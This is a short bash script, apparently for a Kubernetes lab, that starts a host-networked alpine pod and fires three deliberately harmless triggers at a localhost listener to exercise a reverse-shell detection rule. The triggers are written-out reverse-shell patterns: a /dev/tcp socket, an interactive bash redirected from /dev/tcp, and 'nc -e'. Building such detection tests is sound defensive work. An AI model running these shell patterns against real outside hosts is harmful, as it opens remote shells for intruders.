#!/usr/bin/env bash
# Harmless triggers for the lab: each connects ONLY to a listener on the kind host (127.0.0.1
# from the node's view via host networking of the test pod) for two seconds, then exits.
set -euo pipefail
kubectl run rs-test --image=alpine:3.20 --overrides='{"spec":{"hostNetwork":true}}' --restart=Never -- sleep 600
kubectl wait --for=condition=Ready pod/rs-test --timeout=60s
kubectl exec rs-test -- apk add --no-cache bash netcat-openbsd >/dev/null
echo "trigger 1: /dev/tcp"
kubectl exec rs-test -- timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; echo lab >&3' || true
echo "trigger 2: shell with socket stdio"
kubectl exec rs-test -- timeout 2 bash -c 'bash -i < /dev/tcp/127.0.0.1/4444 > /dev/null 2>&1' || true
echo "trigger 3: netcat -e (openbsd nc lacks -e; the rule matches the argument)"
kubectl exec rs-test -- timeout 2 nc -e /bin/true 127.0.0.1 4444 || true
kubectl delete pod rs-test --now
